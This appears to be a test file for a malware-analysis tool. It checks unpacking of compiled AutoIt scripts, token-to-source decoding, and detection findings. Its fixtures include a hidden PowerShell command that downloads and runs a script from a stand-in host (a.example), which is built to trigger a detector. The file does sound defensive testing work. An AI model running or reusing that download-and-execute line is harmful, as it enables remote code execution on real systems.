// Compiled AutoIt of both versions: source, installed files, tokens of every kind; damage ends.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { laggedStream, twisterStream, uncover } from '../../../src/file/formats/autoit/cipher.ts'
import { FUNCTIONS, KEYWORDS } from '../../../src/file/formats/autoit/names.ts'
import { sourceOf } from '../../../src/file/formats/autoit/tokens.ts'
import { unpackAutoIt } from '../../../src/file/formats/autoit/unpack.ts'
import { analyzeFile } from '../../../src/index.ts'
import { EICAR } from '../archives/member.ts'
import { buildPe } from '../pe/build-pe.ts'
import { random } from '../pe/ordinary-program.ts'
import { tokensOf, writeAutoIt } from './write-autoit.ts'

const now = new Date('2026-01-01T00:00:00Z')
const SCRIPT = '>>>AUTOIT SCRIPT<<<'
const RUN = 'Run("powershell -w hidden iex (iwr http://a.example/x.ps1)")'

test('the streams: the mark FILE as rules for AutoIt know it covered, and MT19937 as its authors print it', () => {
  assert.equal(Buffer.from(uncover(Buffer.from('FILE'), laggedStream(0x18ee))).toString('hex'), '6b43ca52')
  // The first numbers for the seed 5489 are 3499211612, 581869302, 3890346734.
  const twister = twisterStream(5489)
  assert.deepEqual(
    [twister(), twister(), twister()],
    [3499211612, 581869302, 3890346734].map((number) => (number >>> 1) & 255),
  )
})

test('tokens become source', () => {
  const tokens = tokensOf([
    [[0x30, 'GLOBAL'], [0x33, 'a'], '=', [0x36, 'say "hi"'], '&', [0x32, 'CRLF']],
    [[0x31, 'RUN'], '(', [0x36, 'cmd'], ',', [0x32, 'TEMPDIR'], ',', 5, ')'],
    [[0x33, 'o'], [0x35, 'Name'], '=', [0x34, 'own'], '(', ')'],
    [[0x37, '#NoTrayIcon']],
  ])
  assert.deepEqual(sourceOf(tokens), {
    text: 'GLOBAL $a = "say ""hi""" & @CRLF\r\nRUN("cmd", @TEMPDIR, 5)\r\n$o.Name = own()\r\n#NoTrayIcon',
    lines: 4,
    damaged: false,
  })
  const numbered = Buffer.concat([
    Buffer.from([1, 0, 0, 0]),
    Buffer.from([0, 4, 0, 0, 0]),
    Buffer.from([1, FUNCTIONS.indexOf('IsAdmin') & 255, FUNCTIONS.indexOf('IsAdmin') >> 8, 0, 0, 0x47, 0x48]),
    Buffer.from([0, 5, 0, 0, 0, 0x7f]),
  ])
  assert.equal(sourceOf(numbered).text, 'If IsAdmin() Then')
  assert.deepEqual([KEYWORDS.length, FUNCTIONS.length, FUNCTIONS.at(-1)], [45, 406, 'WinWaitNotActive'])
})

const ea06 = (): Buffer =>
  writeAutoIt([
    { tag: '>>>AUTOIT NO CMDEXECUTE<<<', path: '', bytes: Buffer.from('aaaaaaaaaaaaaa') },
    {
      tag: SCRIPT,
      path: 'C:\\a\\b.tmp',
      bytes: tokensOf([[[0x31, 'Run'], '(', [0x36, 'powershell -w hidden iex (iwr http://a.example/x.ps1)'], ')']]),
    },
    { tag: 'eicar', path: 'C:\\src\\eicar.com', bytes: EICAR },
  ])
const ea05 = (): Buffer =>
  writeAutoIt(
    [
      { tag: '>AUTOIT SCRIPT<', path: 'C:\\a\\b.tmp', bytes: Buffer.from(RUN) },
      { tag: 'eicar', path: 'C:\\src\\eicar.com', bytes: EICAR },
    ],
    'EA05',
  )

const carriers: Readonly<Record<string, () => Uint8Array>> = {
  'EA06 alone': ea06,
  'EA05 alone': ea05,
  'EA06 in a resource': () => buildPe({ resources: { SCRIPT: ea06() } }),
  'EA05 behind the interpreter': () => buildPe({ overlay: ea05() }),
  'EA06 behind the interpreter': () => buildPe({ overlay: ea06() }),
}

for (const [name, make] of Object.entries(carriers))
  test(`script and files of ${name}`, async () => {
    const { root } = await analyzeFile(make(), { fileName: 'demo', now })
    const holder = root.facts.autoit === undefined ? root.children[0] : root
    const children = holder?.children ?? []
    const script = children.find(({ facts }) => facts.name === 'script.au3')
    assert.equal(script?.facts.type.id, 'autoit')
    assert.ok(script?.findings.some(({ id }) => id === 'script_runs_downloaded_text'))
    const eicar = children.find(({ facts }) => facts.name === 'eicar.com')
    assert.deepEqual(
      eicar?.findings.map(({ id }) => id),
      ['eicar_test_file'],
    )
  })

const NOISE = random(20_000, 61)
const brings = (bytes: Uint8Array): Buffer =>
  writeAutoIt([
    { tag: SCRIPT, path: 'C:\\a\\b.tmp', bytes: tokensOf([[[0x31, 'Run'], '(', [0x36, 'notepad'], ')']]) },
    { tag: 'data', path: 'C:\\src\\data.bin', bytes },
  ])
const BROUGHT: Readonly<Record<string, readonly [boolean, Uint8Array]>> = {
  'an encrypted file': [true, NOISE],
  'a little of it': [false, NOISE.subarray(0, 9_000)],
  'a picture': [false, Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), NOISE])],
  'a table of numbers': [false, NOISE.map((byte) => byte & 0x1f)],
}

for (const [name, [isTold, bytes]] of Object.entries(BROUGHT))
  test(`a script that brings ${name} along: ${isTold ? 'told' : 'nothing is told'}`, async () => {
    const { root } = await analyzeFile(brings(bytes), { fileName: 'demo', now })
    const found = root.findings.find(({ id }) => id === 'autoit_carries_encrypted_file')
    assert.equal(found !== undefined, isTold)
    if (isTold) assert.equal(root.verdict.label, 'suspicious')
  })

test('long copies, damage and false sizes end', () => {
  // 2000 times the same byte: one byte, then a copy whose length needs every row of its code.
  const bits = [1, ...'01000001', 0, ...'000000000000001', ...'11', ...'111', ...'11111', ...'11111111']
  // 299 are told by the rows, 1700 are left: six times 255, then 170.
  for (let times = 0; times < 6; times += 1) bits.push(...'11111111')
  bits.push(...(170).toString(2).padStart(8, '0'))
  const packed = Buffer.alloc(8 + Math.ceil(bits.length / 8))
  packed.write('EA06')
  packed.writeUInt32BE(2000, 4)
  for (const [at, bit] of bits.entries())
    packed[8 + (at >> 3)] = (packed[8 + (at >> 3)] ?? 0) | (Number(bit) << (7 - (at & 7)))
  const unpacked = unpackAutoIt(packed, 10_000)
  assert.deepEqual([unpacked?.bytes.length, unpacked?.damaged], [2000, false])
  assert.ok(unpacked?.bytes.every((byte) => byte === 65))
  const claims = Buffer.from(packed)
  claims.writeUInt32BE(0xffffffff, 4)
  assert.ok(unpackAutoIt(claims, 5000)?.damaged)
  for (let round = 0; round < 3000; round += 1) {
    const hostile = Buffer.from(ea06().subarray(40 + (round % 300)))
    hostile[(round * 31) % hostile.length] = round & 255
    sourceOf(hostile)
    unpackAutoIt(Buffer.concat([Buffer.from('EA05'), hostile]), 100_000)
  }
})

test('a script that was read out of a resource is no resource that nobody can read', async () => {
  const told = async (data: Uint8Array): Promise<boolean> => {
    const { root } = await analyzeFile(buildPe({ resources: { SCRIPT: data } }), { fileName: 'demo.exe', now })
    return root.findings.some(({ id }) => id === 'pe_carries_encrypted_resource')
  }
  const script = brings(NOISE)
  assert.equal(await told(script), false)
  assert.equal(await told(script.map((byte, at) => (at < 40 ? 0 : byte))), true)
})
